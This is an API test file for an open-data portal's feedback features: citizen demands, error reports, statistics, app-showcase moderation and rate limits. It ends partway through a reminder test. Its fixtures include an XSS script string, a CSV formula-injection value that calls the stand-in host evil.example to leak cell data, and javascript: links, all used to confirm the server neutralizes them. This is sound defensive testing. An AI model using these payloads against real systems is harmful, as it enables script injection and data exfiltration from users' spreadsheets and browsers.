// API tests of the portal feedback (issue 7 §3, §4): public demands (submit, route, answer publicly, +1, deadlines
// firing overdue), error reports pinned to a version (row/field checked, answer, needs info, correction linked to
// the version that fixes it), the public statistics on known data, reuses with moderation — with IDOR probes,
// XSS and CSV-formula texts, size and rate limits, and the ledger entries that commit with each change.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { sql } from 'kysely';
import { resourceIdByName, startTestPlatform, type TestClient, type TestPlatform } from '../../../test/helpers.ts';
import { SYSTEM } from '../identity/actor.ts';
import { DEMO_PASSWORD } from '../identity/service.ts';
import { orgIds } from '../elements/testing.ts';
import { maskName } from './service.ts';

let p: TestPlatform;
let orgs: Map<string, string>;
let anon: TestClient;
const clients = new Map<string, TestClient>();
let homes: string; // 养老机构信息 (民政局, open unconditionally)
let homesDataset: string;
let insured: string; // 社会保险参保登记信息 (not open)

const XSS = '<script>alert(1)</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

async function as(username: string): Promise<TestClient> {
  let c = clients.get(username);
  if (!c) {
    c = p.client();
    await c.login(username, DEMO_PASSWORD);
    clients.set(username, c);
  }
  return c;
}

async function ledgerCount(action: string, objectId: string): Promise<number> {
  const { rows } = await sql<{
    n: number;
  }>`select count(*)::int as n from ledger_entries where action = ${action} and object_id = ${objectId}`.execute(p.ctx.db);
  return rows[0]!.n;
}

before(async () => {
  p = await startTestPlatform({}, { jobs: false });
  orgs = await orgIds(p.ctx.db);
  anon = p.client();
  const admin = await as('admin');
  const mz = await admin.post('/api/users', {
    username: 'mz_clerk',
    displayName: '民政局经办人',
    orgId: orgs.get('MZ'),
    roles: ['provider_clerk'],
    password: DEMO_PASSWORD,
  });
  assert.equal(mz.status, 201, mz.text);
  homes = await resourceIdByName(admin, '养老机构信息');
  insured = await resourceIdByName(admin, '社会保险参保登记信息');
  homesDataset = (await admin.get(`/api/datasets/by-resource/${homes}`)).body.id;
});
after(() => p?.close());

describe('demands (需求征集)', () => {
  let demandId: string;

  it('a signed-in citizen submits a demand; anyone reads it without login, the requester masked and the text intact', async () => {
    const pub = await as('public');
    assert.equal((await anon.post('/api/feedback/demands', { title: '公交实时到站数据' })).status, 401, 'anonymous may read, not submit');
    const r = await pub.post('/api/feedback/demands', {
      title: `公交实时到站数据 ${XSS}`,
      description: FORMULA,
      targetOrgId: orgs.get('SCJG'),
      neededFields: ['线路', '站点', '预计到站时间'],
    });
    assert.equal(r.status, 201, r.text);
    demandId = r.body.id;
    assert.equal(r.body.status, 'open');
    assert.equal(r.body.workingDays, 10, 'demand_answer_days');
    assert.match(r.body.dueDate, /^\d{4}-\d{2}-\d{2}$/);
    assert.equal(r.body.mine, true);
    assert.equal(await ledgerCount('feedback.demand.create', demandId), 1);

    const seen = await anon.get(`/api/feedback/demands/${demandId}`);
    assert.equal(seen.status, 200, seen.text);
    assert.equal(seen.body.title, `公交实时到站数据 ${XSS}`, 'stored and returned as text (pages render it escaped)');
    assert.equal(seen.body.requester, maskName('公众用户'));
    assert.equal(seen.body.requester, '公**');
    assert.ok(!seen.text.includes('公众用户'), 'the full name never leaves the server');
    assert.equal(seen.body.canAnswer, false);
    assert.equal(seen.body.targetOrg.id, orgs.get('SCJG'));
    assert.deepEqual(
      seen.body.events.map((e: { action: string }) => e.action),
      ['submitted'],
    );
    const list = await anon.get('/api/feedback/demands?status=open');
    assert.ok(list.body.items.some((d: { id: string }) => d.id === demandId));
  });

  it('the CSV export neutralizes formula cells and quotes the script text', async () => {
    const csv = await anon.get('/api/feedback/demands.csv');
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type')!, /text\/csv/);
    const line = csv.text.split('\r\n').find((l) => l.includes(demandId))!;
    assert.ok(line.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`), line);
    assert.ok(!/(^|,)=HYPERLINK/.test(line), 'no cell starts with =');
  });

  it('"+1": one vote per user, idempotent, counted; the vote can be taken back; anonymous cannot vote', async () => {
    const consumer = await as('consumer');
    const company = await as('company');
    assert.equal((await anon.post(`/api/feedback/demands/${demandId}/votes`, { on: true })).status, 401);
    let r = await consumer.post(`/api/feedback/demands/${demandId}/votes`, { on: true });
    assert.deepEqual(r.body, { votes: 1, votedByMe: true });
    r = await consumer.post(`/api/feedback/demands/${demandId}/votes`, { on: true });
    assert.deepEqual(r.body, { votes: 1, votedByMe: true }, 'a second +1 by the same user changes nothing');
    r = await company.post(`/api/feedback/demands/${demandId}/votes`, { on: true });
    assert.equal(r.body.votes, 2);
    r = await company.post(`/api/feedback/demands/${demandId}/votes`, { on: false });
    assert.equal(r.body.votes, 1);
    assert.equal((await consumer.get(`/api/feedback/demands/${demandId}`)).body.votedByMe, true);
    assert.equal((await anon.get(`/api/feedback/demands/${demandId}`)).body.votes, 1);
    assert.equal(await ledgerCount('feedback.demand.vote', demandId), 2, 'consumer once, company once');
    const top = await anon.get('/api/feedback/demands?sort=votes');
    assert.equal(top.body.items[0].id, demandId);
  });

  it('only the department asked answers; a refusal needs a reason; acceptance needs a planned date; no change on bad input', async () => {
    const provider = await as('provider');
    const mz = await as('mz_clerk');
    const pub = await as('public');
    assert.equal((await mz.post(`/api/feedback/demands/${demandId}/answer`, { kind: 'accepted', plannedDate: '2099-01-01' })).status, 403);
    assert.equal((await pub.post(`/api/feedback/demands/${demandId}/answer`, { kind: 'accepted', plannedDate: '2099-01-01' })).status, 403);
    const noReason = await provider.post(`/api/feedback/demands/${demandId}/answer`, { kind: 'rejected', reply: '  ' });
    assert.equal(noReason.status, 400, noReason.text);
    assert.equal(noReason.body.error.details.field, 'reply');
    const noDate = await provider.post(`/api/feedback/demands/${demandId}/answer`, { kind: 'accepted', reply: '好的' });
    assert.equal(noDate.status, 400);
    assert.equal(noDate.body.error.code, 'FEEDBACK_PLANNED_DATE_REQUIRED');
    const past = await provider.post(`/api/feedback/demands/${demandId}/answer`, { kind: 'accepted', plannedDate: '2001-01-01' });
    assert.equal(past.body.error.code, 'FEEDBACK_PLANNED_DATE_PAST');
    assert.equal((await anon.get(`/api/feedback/demands/${demandId}`)).body.status, 'open', 'nothing changed');
    assert.equal(await ledgerCount('feedback.demand.answer', demandId), 0);

    const ok = await provider.post(`/api/feedback/demands/${demandId}/answer`, {
      kind: 'accepted',
      plannedDate: '2099-06-30',
      reply: `将于年内开放 ${XSS}`,
    });
    assert.equal(ok.status, 200, ok.text);
    const seen = (await anon.get(`/api/feedback/demands/${demandId}`)).body;
    assert.equal(seen.status, 'answered');
    assert.equal(seen.answerKind, 'accepted');
    assert.equal(seen.plannedDate, '2099-06-30');
    assert.equal(seen.reply, `将于年内开放 ${XSS}`);
    assert.equal(seen.answerWorkingDays, 0);
    assert.deepEqual(
      seen.events.map((e: { action: string; byRole: string }) => `${e.action}/${e.byRole}`),
      ['submitted/requester', 'accepted/department'],
    );
    assert.equal(await ledgerCount('feedback.demand.answer', demandId), 1);
    const again = await provider.post(`/api/feedback/demands/${demandId}/answer`, { kind: 'rejected', reply: '改变主意了' });
    assert.equal(again.status, 409);
    const { rows } = await sql<{ n: number }>`select count(*)::int as n from notifications n join users u on u.id = n.user_id
      where u.username = 'public' and n.kind = 'feedback.demand.accepted'`.execute(p.ctx.db);
    assert.equal(rows[0]!.n, 1, 'the requester is told');
  });

  it('an unrouted demand goes to the authority, who routes it; "already available" must link an open resource', async () => {
    const pub = await as('public');
    const provider = await as('provider');
    const admin = await as('admin');
    const mz = await as('mz_clerk');
    const d = (await pub.post('/api/feedback/demands', { title: '养老机构床位数据', kind: 'dataset' })).body;
    assert.equal(d.targetOrg, null);
    assert.equal((await provider.post(`/api/feedback/demands/${d.id}/answer`, { kind: 'rejected', reply: '不归我们管理' })).status, 403);
    assert.equal((await provider.post(`/api/feedback/demands/${d.id}/route`, { orgId: orgs.get('MZ') })).status, 403);
    const routed = await admin.post(`/api/feedback/demands/${d.id}/route`, { orgId: orgs.get('MZ') });
    assert.equal(routed.status, 200, routed.text);
    assert.equal(routed.body.targetOrg.id, orgs.get('MZ'));
    assert.equal(await ledgerCount('feedback.demand.route', d.id), 1);
    const closed = await mz.post(`/api/feedback/demands/${d.id}/answer`, { kind: 'available', resourceId: insured });
    assert.equal(closed.status, 400);
    assert.equal(closed.body.error.code, 'FEEDBACK_RESOURCE_NOT_PUBLIC');
    const ok = await mz.post(`/api/feedback/demands/${d.id}/answer`, { kind: 'available', resourceId: homes, reply: '已开放' });
    assert.equal(ok.status, 200, ok.text);
    const seen = (await anon.get(`/api/feedback/demands/${d.id}`)).body;
    assert.equal(seen.answerKind, 'available');
    assert.equal(seen.answerResource.id, homes);
    assert.equal(seen.answerResource.nameZh, '养老机构信息');
  });

  it('a demand on an existing resource goes to its provider; the resource must be visible to the requester', async () => {
    const pub = await as('public');
    const bad = await pub.post('/api/feedback/demands', { title: '参保数据开放', kind: 'field', resourceId: insured });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.error.code, 'FEEDBACK_RESOURCE_UNKNOWN', 'a resource the public cannot see is not confirmed to exist');
    const ok = await pub.post('/api/feedback/demands', {
      title: '养老机构增加收费标准字段',
      kind: 'field',
      resourceId: homes,
      neededFields: ['收费标准'],
    });
    assert.equal(ok.status, 201, ok.text);
    assert.equal(ok.body.targetOrg.id, orgs.get('MZ'));
    assert.equal(ok.body.resource.id, homes);
    const byResource = await anon.get(`/api/feedback/demands?resourceId=${homes}`);
    assert.deepEqual(
      byResource.body.items.map((x: { id: string }) => x.id),
      [ok.body.id],
    );
  });

  it('the due job flags an unanswered demand overdue (once), the department and the authority are told; the answer still counts', async () => {
    const pub = await as('public');
    const d = (await pub.post('/api/feedback/demands', { title: '逾期测试需求', targetOrgId: orgs.get('SCJG') })).body;
    const row = (await sql<{ due_at: Date }>`select due_at from resource_demands where id = ${d.id}`.execute(p.ctx.db)).rows[0]!;
    const jobs = await sql<{
      n: number;
    }>`select count(*)::int as n from pgboss.job where name = 'feedback.deadline' and singleton_key = ${'demand:' + d.id}
      and state = 'created'`.execute(p.ctx.db);
    assert.equal(jobs.rows[0]!.n, 1, 'a durable due job is waiting');
    const early = new Date(row.due_at.getTime() - 60_000);
    assert.deepEqual(await p.ctx.feedback.fireDeadline(`demand:${d.id}`, { at: early }), { result: 'not_due' });
    const late = new Date(row.due_at.getTime() + 1000);
    assert.deepEqual(await p.ctx.feedback.fireDeadline(`demand:${d.id}`, { at: late }), { result: 'overdue' });
    assert.deepEqual(await p.ctx.feedback.fireDeadline(`demand:${d.id}`, { at: late }), { result: 'already_overdue' });
    const seen = (await anon.get(`/api/feedback/demands/${d.id}`)).body;
    assert.equal(seen.overdue, true);
    assert.equal(seen.events.at(-1).action, 'overdue');
    assert.equal(await ledgerCount('feedback.demand.overdue', d.id), 1);
    const overdueList = await anon.get('/api/feedback/demands?status=overdue');
    assert.ok(overdueList.body.items.some((x: { id: string }) => x.id === d.id));
    const { rows } = await sql<{ n: number }>`select count(*)::int as n from notifications n join users u on u.id = n.user_id
      where u.username in ('provider', 'admin') and n.title_zh = ${'已逾期未答复：逾期测试需求'}`.execute(p.ctx.db);
    assert.equal(rows[0]!.n, 2);
    const provider = await as('provider');
    const ans = await provider.post(`/api/feedback/demands/${d.id}/answer`, { kind: 'rejected', reply: '该数据涉及商业秘密，不予开放' });
    assert.equal(ans.status, 200);
    assert.equal(ans.body.overdue, true, 'answered late stays flagged');
    assert.deepEqual(await p.ctx.feedback.fireDeadline(`demand:${d.id}`, { at: late }), { result: 'closed' });
    const cancelled = await sql<{ n: number }>`select count(*)::int as n from pgboss.job where name = 'feedback.deadline'
      and singleton_key = ${'demand:' + d.id} and state = 'created'`.execute(p.ctx.db);
    assert.equal(cancelled.rows[0]!.n, 0, 'answering cancels the pending job');
  });

  it("a department's internal demand (需求清单, not on the public board) is 404 here: no read, no vote, no answer", async () => {
    const consumer = await as('consumer');
    const internal = await consumer.post('/api/lists/demands', { title: '内部共享需求', targetOrgId: orgs.get('SCJG') });
    assert.equal(internal.status, 201, internal.text);
    const id = internal.body.id;
    assert.equal((await anon.get(`/api/feedback/demands/${id}`)).status, 404);
    assert.equal((await (await as('public')).post(`/api/feedback/demands/${id}/votes`, { on: true })).status, 404);
    assert.equal(
      (await (await as('provider')).post(`/api/feedback/demands/${id}/answer`, { kind: 'rejected', reply: '内部需求不在此答复' })).status,
      404,
    );
    assert.ok(!(await anon.get('/api/feedback/demands')).body.items.some((x: { id: string }) => x.id === id));
    assert.equal((await anon.get('/api/feedback/demands/00000000-0000-4000-8000-000000000000')).status, 404);
  });

  it('size limits: an over-long title is refused and nothing is stored', async () => {
    const pub = await as('public');
    const before = (await anon.get('/api/feedback/demands')).body.total;
    const r = await pub.post('/api/feedback/demands', { title: '长'.repeat(201) });
    assert.equal(r.status, 400);
    assert.equal((await anon.get('/api/feedback/demands')).body.total, before);
  });
});

describe('error reports (纠错/数据异议)', () => {
  let reportId: string;

  it('a citizen reports an error pinned to a version, row and field; row, field and version are checked', async () => {
    const pub = await as('public');
    assert.equal((await anon.post(`/api/feedback/resources/${homes}/reports`, { kind: 'wrong_value', description: 'x' })).status, 401);
    const badRow = await pub.post(`/api/feedback/resources/${homes}/reports`, {
      kind: 'wrong_value',
      description: '床位数不对',
      rowNumber: 241,
    });
    assert.equal(badRow.status, 400);
    assert.deepEqual(badRow.body.error.details, { field: 'rowNumber', rows: 240 });
    const badField = await pub.post(`/api/feedback/resources/${homes}/reports`, {
      kind: 'wrong_value',
      description: '床位数不对',
      field: '不存在',
    });
    assert.equal(badField.body.error.code, 'FEEDBACK_FIELD_UNKNOWN');
    const badVersion = await pub.post(`/api/feedback/resources/${homes}/reports`, { kind: 'stale', description: '过时', version: 99 });
    assert.equal(badVersion.body.error.code, 'FEEDBACK_VERSION_UNKNOWN');
    const r = await pub.post(`/api/feedback/resources/${homes}/reports`, {
      kind: 'wrong_value',
      description: `第3行床位数应为120 ${XSS}`,
      rowNumber: 3,
      field: '床位数',
    });
    assert.equal(r.status, 201, r.text);
    reportId = r.body.id;
    assert.match(r.body.number, /^JC-\d{4}-\d{6}$/);
    assert.equal(r.body.version, 1);
    assert.equal(r.body.datasetId, homesDataset);
    assert.equal(r.body.workingDays, 5, 'error_answer_days');
    assert.equal(r.body.providerOrg.id, orgs.get('MZ'));
    assert.equal(await ledgerCount('feedback.report.create', reportId), 1);
  });

  it('the dataset thread is public; reports on data the public cannot see are 404 to it', async () => {
    const thread = await anon.get(`/api/feedback/resources/${homes}/reports`);
    assert.equal(thread.status, 200);
    const item = thread.body.items.find((x: { id: string }) => x.id === reportId);
    assert.equal(item.description, `第3行床位数应为120 ${XSS}`);
    assert.equal(item.reporter, '公**');
    assert.equal(item.rowNumber, 3);
    assert.equal(item.field, '床位数');

    const admin = await as('admin');
    const hidden = await admin.post(`/api/feedback/resources/${insured}/reports`, { kind: 'other', description: '内部核对' });
    assert.equal(hidden.status, 201, hidden.text);
    assert.equal((await anon.get(`/api/feedback/reports/${hidden.body.id}`)).status, 404);
    assert.equal((await (await as('public')).get(`/api/feedback/reports/${hidden.body.id}`)).status, 404);
    assert.equal((await (await as('public')).post(`/api/feedback/reports/${hidden.body.id}/actions`, { action: 'accept' })).status, 404);
    assert.equal((await anon.get(`/api/feedback/resources/${insured}/reports`)).status, 404);
    assert.equal(
      (await (await as('public')).post(`/api/feedback/resources/${insured}/reports`, { kind: 'other', description: '猜' })).status,
      404,
    );
  });

  it('the provider asks for information; the reporter answers and the clock restarts; a refusal needs a reason', async () => {
    const mz = await as('mz_clerk');
    const provider = await as('provider');
    const pub = await as('public');
    assert.equal(
      (await provider.post(`/api/feedback/reports/${reportId}/actions`, { action: 'accept' })).status,
      403,
      'another department',
    );
    assert.equal((await pub.post(`/api/feedback/reports/${reportId}/actions`, { action: 'accept' })).status, 403);
    const noReason = await mz.post(`/api/feedback/reports/${reportId}/actions`, { action: 'reject', text: '不' });
    assert.equal(noReason.status, 400);
    assert.equal(noReason.body.error.code, 'FEEDBACK_REASON_REQUIRED');
    const ask = await mz.post(`/api/feedback/reports/${reportId}/actions`, { action: 'needs_info', text: '请提供依据' });
    assert.equal(ask.status, 200, ask.text);
    assert.equal(ask.body.status, 'needs_info');
    assert.ok(ask.body.respondedAt);
    assert.equal(
      (await (await as('consumer')).post(`/api/feedback/reports/${reportId}/actions`, { action: 'info', text: '我不是提出人' })).status,
      403,
    );
    const info = await pub.post(`/api/feedback/reports/${reportId}/actions`, { action: 'info', text: '见民政局官网公示' });
    assert.equal(info.status, 200, info.text);
    assert.equal(info.body.status, 'open');
    assert.equal(info.body.overdue, false);
    assert.deepEqual(info.body.allowed, [], 'the reporter cannot answer its own report');
  });

  it('accepted, then corrected: the correction links to the new version that fixes it (a version must be newer and exist)', async () => {
    const mz = await as('mz_clerk');
    const acc = await mz.post(`/api/feedback/reports/${reportId}/actions`, { action: 'accept', text: '核实无误，将更正' });
    assert.equal(acc.body.status, 'accepted');
    assert.deepEqual(acc.body.allowed, ['correct']);
    const same = await mz.post(`/api/feedback/reports/${reportId}/actions`, { action: 'correct', fixedVersion: 2 });
    assert.equal(same.status, 400);
    assert.equal(same.body.error.code, 'FEEDBACK_VERSION_UNKNOWN', 'version 2 does not exist yet');
    // The provider publishes version 2 (the same rows re-ingested stand in for the corrected file).
    const csv = path.join(p.ctx.datasets.scratchDir, 'feedback-fix.csv');
    const { file } = await p.ctx.datasets.versionFile(homesDataset, 1);
    await (await p.ctx.datasets.engine()).all(`COPY (SELECT * FROM read_parquet('${file}')) TO '${csv}' (HEADER, DELIMITER ',')`);
    await p.ctx.datasets.ingestLocalFile(SYSTEM, homesDataset, csv, 'fix.csv', { confirm: (s) => s });
    const versions = await mz.get(`/api/datasets/${homesDataset}/versions`);
    assert.ok(versions.text.includes('"version":2'), versions.text.slice(0, 300));
    const fixed = await mz.post(`/api/feedback/reports/${reportId}/actions`, {
      action: 'correct',
      fixedVersion: 2,
      text: '已在第 2 版更正',
    });
    assert.equal(fixed.status, 200, fixed.text);
    const seen = (await anon.get(`/api/feedback/reports/${reportId}`)).body;
    assert.equal(seen.status, 'corrected');
    assert.equal(seen.fixedVersion, 2);
    assert.deepEqual(
      seen.events.map((e: { action: string }) => e.action),
      ['submitted', 'needs_info', 'info', 'accept', 'correct'],
    );
    for (const a of ['needs_info', 'info', 'accept', 'correct']) assert.equal(await ledgerCount(`feedback.report.${a}`, reportId), 1, a);
    const twice = await mz.post(`/api/feedback/reports/${reportId}/actions`, { action: 'correct', fixedVersion: 2 });
    assert.equal(twice.status, 409);
  });

  it('an error report left unanswered is overdue at its due time', async () => {
    const pub = await as('public');
    const r = (await pub.post(`/api/feedback/resources/${homes}/reports`, { kind: 'broken_file', description: 'CSV 下载打不开' })).body;
    const due = new Date(
      (await sql<{ due_at: Date }>`select due_at from error_reports where id = ${r.id}`.execute(p.ctx.db)).rows[0]!.due_at,
    );
    assert.deepEqual(await p.ctx.feedback.fireDeadline(`report:${r.id}`, { at: new Date(due.getTime() + 1) }), { result: 'overdue' });
    assert.equal((await anon.get(`/api/feedback/reports/${r.id}`)).body.overdue, true);
    assert.equal(await ledgerCount('feedback.report.overdue', r.id), 1);
  });

  it('the department inbox lists its own reports only', async () => {
    const mz = await as('mz_clerk');
    const provider = await as('provider');
    const mine = await mz.get('/api/feedback/inbox?type=report');
    assert.equal(mine.status, 200, mine.text);
    assert.ok(mine.body.reports.length >= 2);
    assert.ok(mine.body.reports.every((x: { providerOrg: { id: string } }) => x.providerOrg.id === orgs.get('MZ')));
    const scjg = await provider.get('/api/feedback/inbox?type=report');
    assert.equal(scjg.body.reports.length, 0);
    assert.equal((await (await as('public')).get('/api/feedback/inbox?type=demand')).status, 403);
    assert.equal((await anon.get('/api/feedback/inbox?type=demand')).status, 401);
  });
});

describe('statistics', () => {
  it('answer rate, median working days and overdue, overall and per department, match the known data', async () => {
    // Put every item on known dates: submitted Monday 2026-03-02 10:00 (China); answered ones 1, 3, 5, … working
    // days later in submission order (2026-03-03 = 1, 03-05 = 3, 03-09 = 5: no holidays that week).
    const answeredDays = ['2026-03-03', '2026-03-05', '2026-03-09', '2026-03-10', '2026-03-11'];
    const created = new Date('2026-03-02T10:00:00+08:00');
    const demands = (
      await sql<{ id: string; responded: boolean; org: string | null; overdue: boolean }>`select id, responded_at is not null as responded,
        target_org_id as org, overdue_at is not null as overdue from resource_demands where public_listed order by created_at, id`.execute(
        p.ctx.db,
      )
    ).rows;
    const reports = (
      await sql<{ id: string; responded: boolean; org: string; overdue: boolean }>`select id, responded_at is not null as responded,
        provider_org_id as org, overdue_at is not null as overdue from error_reports order by created_at, id`.execute(p.ctx.db)
    ).rows;
    const expectDays = new Map<string, number[]>();
    let i = 0;
    const set = async (table: 'resource_demands' | 'error_reports', rows: { id: string; responded: boolean }[]) => {
      for (const r of rows) {
        const day = r.responded ? answeredDays[i++ % answeredDays.length]! : null;
        await sql`update ${sql.table(table)} set created_at = ${created}, due_at = '2099-01-01',
          responded_at = ${day ? new Date(`${day}T15:00:00+08:00`) : null} where id = ${r.id}`.execute(p.ctx.db);
        if (day) expectDays.set(r.id, [{ '2026-03-03': 1, '2026-03-05': 3, '2026-03-09': 5, '2026-03-10': 6, '2026-03-11': 7 }[day]!]);
      }
    };
    await set('resource_demands', demands);
    await set('error_reports', reports);
    const median = (xs: number[]) => {
      const s = [...xs].sort((a, b) => a - b);
      return s.length ? (s.length % 2 ? s[(s.length - 1) / 2]! : (s[s.length / 2 - 1]! + s[s.length / 2]!) / 2) : null;
    };
    const figure = (rows: { id: string; responded: boolean; overdue: boolean }[]) => {
      const days = rows.filter((r) => r.responded).map((r) => expectDays.get(r.id)![0]!);
      return {
        total: rows.length,
        answered: days.length,
        overdue: rows.filter((r) => r.overdue).length,
        answerRate: rows.length ? Math.round((days.length / rows.length) * 10_000) / 10_000 : null,
        medianAnswerDays: median(days),
      };
    };
    const s = await anon.get('/api/feedback/stats');
    assert.equal(s.status, 200, s.text);
    assert.equal(demands.length, 4, 'the earlier tests made four demands');
    assert.equal(reports.length, 3, 'and three error reports');
    assert.deepEqual(s.body.demands, figure(demands));
    assert.deepEqual(s.body.errorReports, figure(reports));
    // Worked by hand from the tests above: demands 1 (accepted), 2 (available), 4 (rejected late) answered after 1, 3
    // and 5 working days, demand 3 open; reports: the corrected one answered (6), two not.
    assert.deepEqual(s.body.demands, { total: 4, answered: 3, overdue: 1, answerRate: 0.75, medianAnswerDays: 3 });
    assert.deepEqual(s.body.errorReports, { total: 3, answered: 1, overdue: 1, answerRate: 0.3333, medianAnswerDays: 6 });
    const mz = s.body.departments.find((d: { org: { id: string } | null }) => d.org?.id === orgs.get('MZ'));
    assert.deepEqual(mz.errorReports, figure(reports.filter((r) => r.org === orgs.get('MZ'))));
    assert.deepEqual(mz.demands, figure(demands.filter((r) => r.org === orgs.get('MZ'))));
  });
});

describe('reuses (应用展示)', () => {
  let reuseId: string;

  it('links must be http(s): javascript:, data: and relative links are refused', async () => {
    const pub = await as('public');
    const base = { title: '养老地图', description: '地图', kind: 'visualization', resourceIds: [homes] };
    for (const url of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      '/relative',
      'http://user:pw@x.cn/',
    ]) {
      const r = await pub.post('/api/feedback/reuses', { ...base, url });
      assert.equal(r.status, 400, url);
      assert.equal(r.body.error.code, 'FEEDBACK_URL_INVALID', url);
    }
    const img = await pub.post('/api/feedback/reuses', { ...base, url: 'https://map.example.cn/', imageUrl: 'javascript:alert(1)' });
    assert.equal(img.body.error.details.field, 'imageUrl');
    const hidden = await pub.post('/api/feedback/reuses', { ...base, url: 'https://map.example.cn/', resourceIds: [insured] });
    assert.equal(hidden.body.error.code, 'FEEDBACK_RESOURCE_UNKNOWN');
  });

  it('a submitted reuse is pending: hidden from the public and other users until the authority publishes it', async () => {
    const pub = await as('public');
    const r = await pub.post('/api/feedback/reuses', {
      title: `养老机构地图 ${XSS}`,
      description: FORMULA,
      kind: 'app',
      url: 'https://map.example.cn/yanglao',
      imageUrl: 'https://map.example.cn/shot.png',
      resourceIds: [homes],
    });
    assert.equal(r.status, 201, r.text);
    reuseId = r.body.id;
    assert.equal(r.body.status, 'pending');
    assert.equal((await anon.get(`/api/feedback/reuses/${reuseId}`)).status, 404);
    assert.equal((await (await as('company')).get(`/api/feedback/reuses/${reuseId}`)).status, 404);
    assert.equal((await pub.get(`/api/feedback/reuses/${reuseId}`)).status, 200, 'the submitter sees its own');
    assert.ok(!(await anon.get('/api/feedback/reuses')).body.items.some((x: { id: string }) => x.id === reuseId));
    assert.ok(!(await anon.get(`/api/feedback/reuses?resourceId=${homes}`)).body.items.some((x: { id: string }) => x.id === reuseId));
    assert.equal((await anon.get('/api/feedback/reuses?status=pending')).status, 403);
    const queue = await (await as('admin')).get('/api/feedback/reuses?status=pending');
    assert.ok(queue.body.items.some((x: { id: string }) => x.id === reuseId));
    assert.equal((await pub.get('/api/feedback/reuses?mine=true')).body.items[0].id, reuseId);
  });

  it('only the authority moderates; publishing shows it on the dataset; featuring puts it on the home page', async () => {
    const provider = await as('provider');
    const admin = await as('admin');
    assert.equal(
      (await provider.post(`/api/feedback/reuses/${reuseId}/moderation`, { action: 'publish' })).status,
      404,
      'pending: not even visible',
    );
    assert.equal(
      (await admin.post(`/api/feedback/reuses/${reuseId}/moderation`, { action: 'feature' })).status,
      409,
      'feature needs published',
    );
    const pubd = await admin.post(`/api/feedback/reuses/${reuseId}/moderation`, { action: 'publish' });
    assert.equal(pubd.status, 200, pubd.text);
    assert.equal((await provider.post(`/api/feedback/reuses/${reuseId}/moderation`, { action: 'feature' })).status, 403);
    const seen = await anon.get(`/api/feedback/reuses/${reuseId}`);
    assert.equal(seen.body.title, `养老机构地图 ${XSS}`);
    assert.equal(seen.body.description, FORMULA);
    assert.deepEqual(
      seen.body.datasets.map((d: { id: string }) => d.id),
      [homes],
    );
    const ofDataset = await anon.get(`/api/feedback/reuses?resourceId=${homes}`);
    assert.deepEqual(
      ofDataset.body.items.map((x: { id: string }) => x.id),
      [reuseId],
    );
    assert.equal((await anon.get('/api/feedback/reuses?featured=true')).body.total, 0);
    await admin.post(`/api/feedback/reuses/${reuseId}/moderation`, { action: 'feature' });
    const featured = await anon.get('/api/feedback/reuses?featured=true');
    assert.deepEqual(
      featured.body.items.map((x: { id: string }) => x.id),
      [reuseId],
    );
    assert.equal(await ledgerCount('feedback.reuse.publish', reuseId), 1);
    assert.equal(await ledgerCount('feedback.reuse.feature', reuseId), 1);
    assert.equal((await anon.get('/api/feedback/stats')).body.reuses, 1);
  });

  it('a rejection needs a reason, which only the submitter and the authority see; the reuse leaves the public lists', async () => {
    const admin = await as('admin');
    const pub = await as('public');
    const noReason = await admin.post(`/api/feedback/reuses/${reuseId}/moderation`, { action: 'reject' });
    assert.equal(noReason.status, 400);
    assert.equal(noReason.body.error.code, 'FEEDBACK_FIELD_REQUIRED');
    const rej = await admin.post(`/api/feedback/reuses/${reuseId}/moderation`, {
      action: 'reject',
      reason: '链接无法访问，请修复后重新提交',
    });
    assert.equal(rej.status, 200, rej.text);
    assert.equal(rej.body.featured, false, 'a rejected reuse is not featured');
    assert.equal((await anon.get(`/api/feedback/reuses/${reuseId}`)).status, 404);
    assert.equal((await anon.get('/api/feedback/reuses?featured=true')).body.total, 0);
    assert.equal((await pub.get(`/api/feedback/reuses/${reuseId}`)).body.rejectReason, '链接无法访问，请修复后重新提交');
  });
});

describe('limits and settings', () => {
  it('the hourly submission limit answers 429 with Retry-After; the figures carry their sources and changes are ledgered', async () => {
    const admin = await as('admin');
    const settings = await anon.get('/api/feedback/settings');
    const demandDays = settings.body.items.find((s: { key: string }) => s.key === 'demand_answer_days');
    assert.match(demandDays.sourceZh, /意见/);
    assert.equal((await (await as('public')).put('/api/feedback/settings/max_submissions_per_hour', { value: 2 })).status, 403);
    const outOfRange = await admin.put('/api/feedback/settings/max_submissions_per_hour', { value: 0 });
    assert.equal(outOfRange.status, 400);
    const set = await admin.put('/api/feedback/settings/max_submissions_per_hour', { value: 2 });
    assert.equal(set.status, 200, set.text);
    const company = await as('company');
    assert.equal((await company.post('/api/feedback/demands', { title: '第一条' })).status, 201);
    assert.equal((await company.post('/api/feedback/demands', { title: '第二条' })).status, 201);
    const third = await company.post('/api/feedback/demands', { title: '第三条' });
    assert.equal(third.status, 429);
    assert.equal(third.body.error.code, 'FEEDBACK_RATE_LIMITED');
    assert.equal(third.headers.get('retry-after'), '3600');
    const { rows } = await sql<{
      n: number;
    }>`select count(*)::int as n from ledger_entries where action = 'feedback.settings.update'`.execute(p.ctx.db);
    assert.equal(rows[0]!.n, 1);
    await admin.put('/api/feedback/settings/max_submissions_per_hour', { value: 10 });
  });
});

// After the statistics (which count the demands the tests above made).
describe('reminders', () => {
  it('the reminder job reminds once before the due time: a repeated job and one after the due time tell nobody again', async () => {
    const pub = await as('public');
    const d = (await pub.post('/api/feedback/demands', { title: '提醒测试需求', targetOrgId: orgs.get('SCJG') })).body;
    const row = (await sql<{ due_at: Date }>`select due_at from resource_demands where id = ${d.id}`.execute(p.ctx.db)).rows[0]!;
    const reminders = async () =>
      (
        await sql<{ n: number }>`select count(*)::int as n from notifications n join users u on u.id = n.user_id
          where u.username = 'provider' and n.title_zh like ${'即将到期%：提醒测试需求'}`.execute(p.ctx.db)
      ).rows[0]!.n;
    const before = new Date(row.due_at.getTime() - 60_000);
    assert.deepEqual(await p.ctx.feedback.fireReminder(`demand:${d.id}`, { at: before }), { result: 'reminded' });
    assert.equal(await reminders(), 1);
    assert.deepEqual(await p.ctx.feedback.fireReminder(`demand:${d.id}`, { at: before }), { result: 'already_reminded' });
